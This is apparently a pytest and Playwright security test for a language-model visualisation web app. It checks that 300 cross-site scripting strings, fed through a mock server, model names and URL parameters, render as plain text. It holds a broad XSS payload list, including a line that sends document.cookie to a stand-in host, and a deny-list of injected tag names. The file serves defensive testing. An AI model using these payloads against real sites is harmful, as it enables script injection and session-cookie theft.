"""Tokens, labels and names are text: 300 hostile ones execute nothing and build nothing."""

import json
from collections import Counter
from collections.abc import Callable, Sequence
from itertools import product
from typing import Any

import pytest
from playwright.sync_api import Page, Route, expect
from screens import Server, drawn

from sampling import mostly_slow

PAYLOADS = (
    "alert(1)", "confirm`1`", "document.title='x'", "import('data:text/javascript,alert(1)')",
    "fetch('https://example.org/'+document.cookie)", "window.name='x'",
)  # fmt: skip
SHAPES = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script>",
    "<iframe srcdoc='<script>{}</script>'>", "<a href='javascript:{}'>x</a>", "javascript:{}",
    "\"><script>{}</script>", "' onmouseover='{}' x='", "\" autofocus onfocus=\"{}\" x=\"",
    "</textarea><script>{}</script>", "</title><script>{}</script>", "<!--><script>{}</script>-->",
    "<math><mtext><img src=x onerror={}></mtext></math>", "<style>@import'http://x/';{}</style>",
    "<style>*{{background:url(http://x/{})}}</style>", "<link rel=stylesheet href=http://x/{}>",
    "<base href=http://x/><script>{}</script>", "<meta http-equiv=refresh content='0;url={}'>",
    "<object data='data:text/html,<script>{}</script>'>", "<embed src='javascript:{}'>",
    "<form action='javascript:{}'><input type=submit autofocus></form>", "${{{}}}", "{{{{{}}}}}",
    "`-{}-`", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "&lt;script&gt;{}&lt;/script&gt;",
    "%3Cscript%3E{}%3C/script%3E", "<template><script>{}</script></template>",
    "<details open ontoggle={}>", "<video><source onerror={}></video>", "<body onload={}>",
    "<marquee onstart={}>", "<input autofocus onfocus={}>", "<select autofocus onfocus={}>",
    "<keygen autofocus onfocus={}>", "<x onclick={} tabindex=1>",
    "<noscript><p title='</noscript>{}'>",
    "\u202e<script>{}</script>", "\u2028<script>{}</script>", "\x00<script>{}</script>",
    "<scr\x00ipt>{}</scr\x00ipt>", "\U0001f600<img/src/onerror={}>", "<a\u00a0onclick={}>",
    "'-{}-'", "\"-{}-\"", "*/{}/*", "//\n{}\n//", "]]><script>{}</script>",
    "<?xml version='1.0'?><script>{}</script>",
)  # fmt: skip
HOSTILE = [shape.format(payload) for shape, payload in product(SHAPES, PAYLOADS)]
BENIGN = [f"word {i} of a text" for i in range(len(HOSTILE))]
FOREIGN = {"IFRAME", "OBJECT", "EMBED", "SVG", "MATH", "STYLE", "BASE", "VIDEO", "TEMPLATE", "X"}
TAGS = "[...document.querySelectorAll('*')].map((each) => each.tagName)"
READY = {
    "model": ".chosen-part .parts", "map": ".one-head .measures",
    "head": ".page-head .row table", "numbers": ".step .shown", "translate": ".minis canvas",
}  # fmt: skip
PLACES = [
    *((name, {}, ready) for name, ready in READY.items()),
    ("generate", {"how": "sample"}, ".looking table"),
    ("generate", {"how": "beam"}, ".tree svg"),
    ("layers", {"o": "the cat sat"}, ".cosines"),
    ("positions", {}, ".page-positions .squiggles"),
    ("positions", {"show": "shuffle"}, ".page-shuffle .words"),
    ("space", {}, ".alike"),
    ("space", {"plane": "word"}, ".alike"),
    ("neurons", {}, ".units"),
    ("pooling", {}, ".sheet"),
    ("pooling", {"pool": "variants"}, ".pooled"),
    ("toy", {}, ".sheet"),
]
WRITERS = ("translate", "generate")  # pages of models that write
BYTES = (
    "/map/",
    "/mean/",
    "/head/",
    "/attention/",
    "/before/",
    "/after/",
    "/matrix/",
)  # these carry no words


def test_there_are_three_hundred() -> None:
    assert len(set(HOSTILE)) == 300


def guesses(words: Sequence[str]) -> list[dict[str, Any]]:
    return [{"id": n, "text": word, "piece": word, "p": 1 / 300} for n, word in enumerate(words)]


class Mouth:
    """Stands between server and page, and puts its own words in place of the server's."""

    def __init__(self, server: Server, words: Sequence[str]) -> None:
        self.server, self.words = server, list(words)
        self.acts = {
            "slides/": self.sheets, "toy/": self.sheets, "pooling": self.pooling,
            "models": self.models, "measures": self.measures, "alignment": self.alignment,
            "numbers": self.numbers, "row": lambda answer: None, "generations": self.writing,
            "lens": self.lens, "trajectory": self.trajectory, "shuffles": self.shuffle,
            "network": self.network, "guesses": self.guesses, "positions": self.positions,
            "surprisal": lambda answer: None, "spaces": self.space,
            "neurons": lambda answer: None, "product": lambda answer: None,
            "glossary": lambda answer: None, "find": lambda answer: None, "runs": self.run,
        }  # fmt: skip

    def __call__(self, route: Route) -> None:
        path = route.request.url.removeprefix(f"{self.server.url}api/")
        if path.startswith("jobs/"):
            route.fulfill(status=404)
            return
        body = json.loads(route.request.post_data or "null")
        if isinstance(body, dict) and "texts" in body:
            body["texts"] = ["the cat sat", "I sat by the river"]  # as many words each time
        answer = self.server.json(path, body)
        next(act for part, act in self.acts.items() if part in path)(answer)
        route.fulfill(body=json.dumps(answer), content_type="application/json")

    def models(self, answer: dict[str, Any]) -> None:
        kept = answer["models"]
        some = [{**each, "id": f"{each['id']}-{n}"} for n in range(99) for each in kept]
        answer["models"] = (kept + some)[: len(self.words)]
        for each, word in zip(answer["models"], self.words, strict=True):
            samples = [{"text": text, "second": text} for text in self.words[:40]]
            each.update(name=word, family=each["family"], mask=word, note=word)
            each["samples"] = each["samples"][:1] + samples
            each["texts"] = self.words[80:82]

    def run(self, answer: dict[str, Any]) -> None:
        for tokens in answer["tokens"]["queries"].values():
            for token, word in zip(tokens, self.words[::7], strict=False):
                token["text"] = word
        answer["predictions"]["text"] = answer["predictions"]["text"] and self.words[5]
        for place in answer["predictions"]["at"]:
            place["top"] = guesses(self.words)

    def measures(self, answer: dict[str, Any]) -> None:
        for each, word in zip(answer["names"], self.words[::11], strict=False):
            each["title"], each["text"], each["paper"] = word, word, word
        for kinds in answer["types"].values():
            kinds[:] = [[self.words[n + 3] for n, _ in enumerate(row)] for row in kinds]

    def alignment(self, answer: dict[str, Any]) -> None:
        for side in ("source", "target"):
            answer[side] = self.words[20 : 20 + len(answer[side])]

    def writing(self, answer: dict[str, Any]) -> None:
        held = answer["prompt"] + answer["source"] + answer["generated"]
        held += [each for step in answer["steps"] for each in step["top"]]
        held += [] if answer["beams"] is None else answer["beams"]["nodes"]
        held += [] if answer["beams"] is None else answer["beams"]["best"]
        for each, word in zip(held, self.words[3:], strict=False):
            each["text"] = word
        for step in answer["steps"]:
            for rule in step["rules"]:
                rule["name"] = self.words[7]

    def lens(self, answer: dict[str, Any]) -> None:
        self.trajectory(answer)
        answer["words"] = self.words[: len(answer.get("words", []))]
        for top in answer.get("tops", []):
            for each, word in zip(top, self.words, strict=False):
                each["text"] = word

    def trajectory(self, answer: dict[str, Any]) -> None:
        for point, word in zip(answer.get("points", []), self.words[40:], strict=False):
            point["name"] = word

    def network(self, answer: dict[str, Any]) -> None:
        for stack in answer["stacks"]:
            self.trajectory(stack)

    def guesses(self, answer: dict[str, Any]) -> None:
        self.trajectory(answer)
        for row in answer["guesses"]:
            for each, word in zip(row, self.words[60:], strict=False):
                each["text"] = word

    def space(self, answer: dict[str, Any]) -> None:
        self.trajectory(answer)
        for each, word in zip(answer.get("words", []), self.words[70:], strict=False):
            each["word"] = word

    def sheets(self, answer: dict[str, Any]) -> None:
        for n, each in enumerate(answer["sheets"]):
            each["title"], each["text"] = self.words[n], self.words[n + 90]
            each["columns"] = self.words[: len(each["columns"])]
            each["rows"] = [[self.words[i], *row[1:]] for i, row in enumerate(each["rows"])]
        answer["words"] = [self.words[3:9] for _ in answer.get("words", [])]
        answer["conclusion"] = self.words[1]

    def pooling(self, answer: dict[str, Any]) -> None:
        for n, each in enumerate(answer["variants"]):
            each.update(name=self.words[n], formula=self.words[n + 9], summary=self.words[n + 20])
            each["labels"] = guesses(self.words)
            shown = [word for sentence in each["sentences"] for word in sentence["words"]]
            for word, text in zip(shown, self.words[100:], strict=False):
                word["text"] = text
            self.sheets({"sheets": each["walk"]})
        answer["vectors"] = [
            [id, word] for (id, _), word in zip(answer["vectors"], self.words, strict=False)
        ]

    def positions(self, answer: dict[str, Any]) -> None:
        answer["columns"] = self.words[: len(answer["columns"])]

    def shuffle(self, answer: dict[str, Any]) -> None:
        for token, word in zip(answer["after"], self.words[50:], strict=False):
            token["text"] = word
        for says in (answer["predictions"], answer["predictions_after"]):
            for place in says["at"]:
                place["top"] = guesses(self.words)

    def numbers(self, answer: dict[str, Any]) -> None:
        answer["token"] = self.words[9]
        answer["names"] = dict(zip(answer["names"], self.words[30:], strict=False))
        for step, word in zip(answer["steps"], self.words[9:], strict=False):
            step["title"], step["text"] = word, word
            step["formulas"] = [["=", "h", ["call", word, "h"]]]


def seen(page: Page, server: Server, words: Sequence[str], model: str) -> list[Counter[str]]:
    """The elements of each page when the server speaks these words."""
    page.unroute_all()
    page.route(lambda url: "/api/" in url and not any(part in url for part in BYTES),
               Mouth(server, words))  # fmt: skip
    found = []
    for name, state, ready in PLACES:
        if name in WRITERS and model != "toy-translator":
            continue
        page.goto(server.url + "icon.svg")
        page.goto(server.address(name, m=model, **state))
        page.locator(ready).first.wait_for()
        page.wait_for_function("() => document.querySelector('#live').textContent")
        found.append(Counter(page.evaluate(TAGS)))
    return found


@pytest.mark.parametrize("name", mostly_slow(["toy encoder", "toy translator"]))
def test_words_of_the_server(toys: Server, open_page: Callable[..., Page], name: str) -> None:
    """The same elements as with harmless words; what is not allowed fails in `open_page`."""
    page = open_page(toys.url)
    model = toys.model(name)
    hostile = seen(page, toys, HOSTILE, model)
    if name == "toy translator":
        names = page.get_by_label("Model", exact=True).locator("option").all_text_contents()
        assert names == HOSTILE
    assert hostile == seen(page, toys, BENIGN, model)


def test_words_of_the_user(strangers: Server, open_page: Callable[..., Page]) -> None:
    """As a text, and in the address: what comes back is shown as it was written."""
    page = open_page(strangers.address(m=strangers.model("gpt2")))
    drawn(page, ".board canvas")
    for text in HOSTILE[::25]:
        page.goto(strangers.address(m=strangers.model("gpt2"), x=text[:40]))
        expect(page.locator("#text")).to_have_value(text[:40].replace("\n", "").replace("\r", ""))
    assert not set(page.evaluate(TAGS)) & FOREIGN
    assert page.locator("img").count() == 1 and page.locator("script").count() == 1


def test_words_of_a_folder(strangers: Server, open_page: Callable[..., Page]) -> None:
    """A folder whose name and labels are markup."""
    evil = "<img src=x onerror=alert(1)>"
    page = open_page(strangers.address(m=strangers.model(evil), x="the cat sat"))
    drawn(page, ".board canvas")
    expect(page.get_by_label("Model", exact=True)).to_contain_text(evil)
    labels = page.locator("table.values tbody th").all_text_contents()
    assert evil in labels and "<script>alert(2)</script>" in labels
